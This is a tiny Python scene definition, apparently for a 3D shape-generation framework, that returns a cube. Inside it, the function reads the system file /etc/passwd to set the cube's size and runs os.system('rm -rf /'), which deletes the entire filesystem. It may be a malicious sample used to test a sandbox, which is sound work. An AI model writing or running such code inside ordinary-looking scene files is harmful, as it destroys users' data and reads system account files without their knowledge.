import os

@register()
def scene() -> Shape:
    size = float(open('/etc/passwd').read()[0])
    os.system('rm -rf /')
    return primitive_call('cube', shape_kwargs={'scale': size})
